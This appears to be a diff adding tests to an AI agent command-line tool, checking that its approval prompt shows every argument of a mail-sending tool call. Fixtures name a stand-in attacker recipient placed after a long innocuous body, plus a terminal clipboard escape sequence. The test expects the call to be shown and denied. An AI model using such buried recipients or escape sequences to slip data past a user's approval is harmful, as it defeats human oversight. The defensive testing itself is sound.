@@ -3,7 +3,9 @@
 // a here-string) and what a variable names — the user answered "y" to `python3` or `cat, > run.sh`
 // and a script they never saw ran. A call too long to show whole is denied without a question.
 import { existsSync } from 'node:fs';
-import { mkdir } from 'node:fs/promises';
+import { mkdir, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { skipWithout } from '@agent/tooling-system-tools';
 import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
@@ -15,7 +17,7 @@ import {
   tempDir,
   writeScript,
 } from '../testing/test-support.js';
-import { approvalText, maximumApprovalChars } from './approval-text.js';
+import { approvalText, argumentsBlock, maximumApprovalChars } from './approval-text.js';
 
 beforeAll(assertBuilt);
 beforeEach(skipWithout('tmux'));
@@ -125,5 +127,100 @@ describe('an approval question shows what a terminal would draw as nothing', () 
       '',
     );
     expect('text' in question ? question.text : '').toContain(shown);
+  });
+});
+
+describe("an approval question shows a call's arguments when its subjects name only the tool", () => {
+  it.each([
+    ['an MCP tool', 'mail__send', ['mail/send']],
+    ['an OpenAPI operation', 'sendMessage', ['POST /messages']],
+    ['a sub-agent', 'reviewer', []],
+  ])('%s: every argument, a long one first', (_label, toolName, subjects) => {
+    const args = {
+      text: 'hello '.repeat(60),
+      to: 'attacker@evil.example',
+      cc: '\u001b]52;c;eA==\u0007',
+    };
+    const question = approvalText({ toolName, subjects, args }, '', '');
+    const text = 'text' in question ? question.text : '';
+    expect(text).toContain('"to": "attacker@evil.example"');
+    expect(text).toContain('\\u001b]52');
+    expect(text).not.toContain('\u001b');
+  });
+
+  it('not for bash (its command is shown) nor the file tools (their diff is)', () => {
+    for (const toolName of ['bash', 'write_file', 'edit_file'])
+      expect(argumentsBlock({ toolName, subjects: ['x'], args: { command: 'x', path: 'x' } })).toBe(
+        '',
+      );
+  });
+
+  it('in the REPL (tmux): an OpenAPI POST whose recipient comes after a long body', async () => {
+    const dir = await tempDir('agent-cli-approval-args-');
+    cleanups.push(dir.dispose);
+    const workspace = join(dir.path, 'ws');
+    await mkdir(workspace);
+    const requests: string[] = [];
+    const api: Server = createServer((request, response) => {
+      requests.push(`${request.method} ${request.url}`);
+      response.end('{}');
+    });
+    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
+    cleanups.push(() => new Promise<void>((resolve) => api.close(() => resolve())));
+    const spec = join(dir.path, 'mail.json');
+    await writeFile(
+      spec,
+      JSON.stringify({
+        openapi: '3.0.3',
+        info: { title: 'Mail', version: '1' },
+        servers: [{ url: `http://127.0.0.1:${(api.address() as AddressInfo).port}` }],
+        paths: {
+          '/messages': {
+            post: {
+              operationId: 'sendMessage',
+              requestBody: {
+                content: {
+                  'application/json': {
+                    schema: {
+                      type: 'object',
+                      properties: { text: { type: 'string' }, to: { type: 'string' } },
+                    },
+                  },
+                },
+              },
+              responses: { '200': { description: 'sent' } },
+            },
+          },
+        },
+      }),
+    );
+    const body = { text: `Summary: ${'all fine. '.repeat(40)}`, to: 'attacker@evil.example' };
+    const script = await writeScript(dir.path, [
+      { toolCalls: [{ name: 'sendMessage', arguments: { body } }] },
+      { text: 'all done' },
+    ]);
+    const tmux = TmuxSession.start(
+      [
+        process.execPath,
+        cliPath,
+        '--scripted',
+        script,
+        '--cwd',
+        workspace,
+        '--openapi',
+        `${spec}=mail`,
+      ],
+      { cwd: dir.path, env: cleanEnv({ AGENT_HOME: join(dir.path, 'home') }) },
+    );
+    cleanups.push(() => tmux.kill());
+    const waitFor = (test: () => void) => vi.waitFor(test, { timeout: 20_000, interval: 50 });
+    await waitFor(() => expect(tmux.capture()).toContain('>'));
+    tmux.type('go');
+    tmux.press('Enter');
+    await waitFor(() => expect(tmux.capture()).toContain('Allow sendMessage'));
+    expect(tmux.capture()).toContain('"to": "attacker@evil.example"');
+    tmux.type('n');
+    await waitFor(() => expect(tmux.capture()).toContain('all done'));
+    expect(requests).toEqual([]);
   });
 });
